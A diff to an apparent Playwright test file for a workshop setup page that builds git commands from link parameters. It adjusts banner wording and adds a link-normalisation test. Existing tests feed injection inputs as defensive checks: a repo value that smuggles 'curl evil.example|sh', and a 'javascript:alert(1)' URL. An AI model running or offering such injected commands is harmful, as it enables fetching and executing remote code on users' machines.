@@ -23,12 +23,15 @@ test('the acceptance link shows the CoCalc panel with the article’s commands',
 		`git remote add origin ${REPO}`,
 		'git pull origin master',
 	]);
-	await expect(page.locator('.wr-banner'), 'the link banner names the repo').toContainText('repo ryanmark1867/dl_structured_data_hands_on');
+	await expect(page.locator('.wr-banner'), 'the link banner names the repo').toContainText(
+		'repository github.com/ryanmark1867/dl_structured_data_hands_on',
+	);
+	await expect(page.locator('.wr-banner'), 'the default repository gets no remark').not.toContainText('not the');
 });
 
 test('a repo with a command separator is refused with a notice and never reaches a command', async ({ page }) => {
 	await open(page, '/setup/?platform=cocalc&repo=https://github.com/a/b;curl evil.example|sh');
-	await expect(page.locator('.wr-notice').filter({ hasText: 'repo=' }), 'the rejection notice names repo').toBeVisible();
+	await expect(page.locator('.wr-notice code').getByText('repo', { exact: true }), 'the rejection notice names repo').toBeVisible();
 	await expect(commands(page, 'cocalc'), 'the default repo is used').toContainText([`git remote add origin ${REPO}`]);
 	for (const text of await page.locator('pre code').allTextContents()) expect(text, 'no command contains curl').not.toContain('curl');
 	await expect(page.locator('.wr-banner'), 'a refused repo customises nothing').toHaveCount(0);
@@ -142,7 +145,9 @@ test('the checklist works when storage is blocked, full or corrupted', async ({ 
 test('the banner’s Reset restores the default repo and cleans the URL', async ({ page }) => {
 	await open(page, '/setup/?platform=colab&repo=https://codeberg.org/x/y&folder=course');
 	const banner = page.locator('.wr-banner');
-	await expect(banner, 'the banner lists the link’s values').toContainText('repo x/y, folder course');
+	await expect(banner, 'the banner lists the link’s values').toContainText(
+		'repository codeberg.org/x/y (not the site’s default workshop repository), Drive folder course',
+	);
 	await expect(commands(page, 'colab'), 'commands use the link').toContainText(['!git clone https://codeberg.org/x/y']);
 	await banner.getByRole('button', { name: /Reset/ }).click();
 	await expect(banner, 'the banner goes').toHaveCount(0);
@@ -175,8 +180,26 @@ test.describe('without JavaScript', () => {
 });
 
 test('axe finds no violations, with and without link notices', async ({ page }) => {
+	test.setTimeout(90_000);
 	await open(page, '/setup/');
 	await expectNoAxeViolations(page, 'on /setup/');
 	await open(page, '/setup/?platform=local&repo=javascript:alert(1)&branch=dev');
 	await expectNoAxeViolations(page, 'with a notice and the banner');
+});
+
+test('the unambiguous spellings of a link give the same commands as the canonical one', async ({ page }) => {
+	const shown = async (query: string) => {
+		await open(page, `/setup/?${query}`);
+		return { commands: await commands(page, 'colab').allTextContents(), banner: await page.locator('.wr-banner').textContent() };
+	};
+	const canonical = await shown('platform=colab&repo=https://codeberg.org/acme/keras-101&branch=dev&notebook=notebooks/train.ipynb');
+	for (const query of [
+		'platform=colab&repo=codeberg.org/acme/keras-101/src/branch/dev&notebook=/notebooks/train.ipynb',
+		'platform=colab&repo=https://codeberg.org/acme/keras-101/&branch=dev&notebook=/notebooks/train.ipynb',
+	]) {
+		const normalised = await shown(query);
+		expect(normalised.commands, `${query}: same commands`).toEqual(canonical.commands);
+		expect(normalised.banner, `${query}: the same banner`).toBe(canonical.banner);
+		await expect(page.locator('.wr-notice').filter({ hasText: 'not used' }), 'nothing refused').toHaveCount(0);
+	}
 });
